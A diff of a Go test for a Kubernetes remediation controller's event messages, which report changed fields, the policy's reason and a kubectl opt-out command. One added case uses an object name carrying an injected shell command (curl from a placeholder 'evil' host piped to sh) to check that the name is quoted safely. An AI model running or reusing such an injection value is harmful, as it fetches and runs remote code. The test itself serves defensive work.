@@ -24,7 +24,7 @@ func TestAChangedObjectsEventSaysWhatWhyAndHowToOptOut(t *testing.T) {
 	change := func(path string) v1alpha1.FieldChange {
 		return v1alpha1.FieldChange{Path: path, Before: value(`"old"`), After: value(`"new"`)}
 	}
-	many := &v1alpha1.WriteRecord{Violation: "v"}
+	many := &v1alpha1.WriteRecord{}
 	for i := range 20 {
 		many.Fields = append(many.Fields, change(fmt.Sprintf("/%s/%d", strings.Repeat("p", 150), i)))
 	}
@@ -34,20 +34,36 @@ func TestAChangedObjectsEventSaysWhatWhyAndHowToOptOut(t *testing.T) {
 		want, not []string
 	}{
 		"a workload": {object: deployment,
-			write: &v1alpha1.WriteRecord{Violation: "runs as root.",
+			write: &v1alpha1.WriteRecord{
 				Fields: []v1alpha1.FieldChange{change("/spec/a"), {Path: "/spec/b", After: value(`true`)}}},
 			want: []string{`changed by policy p (plan p-1): /spec/a: "old" → "new", /spec/b: (no field) → true. `,
-				"Because: runs as root. Owner", "Owner of the policy: platform", "Runbook: https://run.example/p",
+				"Because: No root. Runbook", "Owner of the policy: platform", "Runbook: https://run.example/p",
 				optOut + "deployment.v1.apps web evenkeel.dev/remediation=paused -n shop"}},
 		"an object of a kind that not every viewer may read": {object: custom,
 			write: &v1alpha1.WriteRecord{Fields: []v1alpha1.FieldChange{change("/spec/password")}},
 			want:  []string{"/spec/password. ", optOut + "database.v1.db.example main"},
-			not:   []string{"old", "new", "Because"}},
+			not:   []string{"old", "new"}},
+		"a Pod template, which view doesn't read": {
+			object: v1alpha1.ObjectReference{APIVersion: "v1", Kind: "PodTemplate", Namespace: "shop", Name: "t"},
+			write:  &v1alpha1.WriteRecord{Fields: []v1alpha1.FieldChange{change("/template/a")}},
+			want:   []string{"/template/a. "}, not: []string{"old"}},
+		"a name that a shell would run": {
+			object: v1alpha1.ObjectReference{APIVersion: "rbac.authorization.k8s.io/v1", Kind: "Role",
+				Namespace: "shop",
+				Name:      "x;curl 'evil'|sh\n"},
+			want: []string{`role.v1.rbac.authorization.k8s.io 'x;curl '\''evil'\''|sh ' evenkeel`},
+			not:  []string{"\n"}},
+		"names that leave no room": {
+			object: v1alpha1.ObjectReference{APIVersion: "apps/v1", Kind: "Deployment", Namespace: "shop",
+				Name: strings.Repeat("n", 253)},
+			write: &v1alpha1.WriteRecord{Fields: []v1alpha1.FieldChange{change("/" + strings.Repeat("p", 900))}},
+			want: []string{"…. To opt out: kubectl annotate deployment.v1.apps " + strings.Repeat("n", 253) +
+				" evenkeel.dev/remediation=paused -n shop"}},
 		"an object of the cluster": {object: role,
 			write: &v1alpha1.WriteRecord{Fields: []v1alpha1.FieldChange{change("/rules")}},
 			want:  []string{"/rules. ", "all evenkeel.dev/remediation=paused"}, not: []string{"old", " -n "}},
 		"more than there is room for": {object: deployment, write: many,
-			want: []string{"…. Because: v", optOut}},
+			want: []string{"…. To opt out", "Because: No root", "Owner of the policy: platform"}},
 		"a long value": {object: deployment,
 			write: &v1alpha1.WriteRecord{Fields: []v1alpha1.FieldChange{
 				{Path: "/data", Before: value(`"` + strings.Repeat("x", 99) + `"`)}}},
@@ -63,7 +79,8 @@ func TestAChangedObjectsEventSaysWhatWhyAndHowToOptOut(t *testing.T) {
 			rem.Spec.Plan.Policy = v1alpha1.PlannedPolicy{
 				Name: "p", Owner: "platform", RunbookURL: "https://run.example/p"}
 			reason, note := targetEvent(tc.object, rem, v1alpha1.TargetIntent,
-				&v1alpha1.TargetRecord{State: v1alpha1.TargetApplied, Write: tc.write})
+				&v1alpha1.TargetRecord{State: v1alpha1.TargetApplied, Write: tc.write},
+				func() string { return "No root." })
 			if reason != v1alpha1.EventRemediated || len(note) > escalate.MaxNote {
 				t.Errorf("reason %s, %d bytes", reason, len(note))
 			}
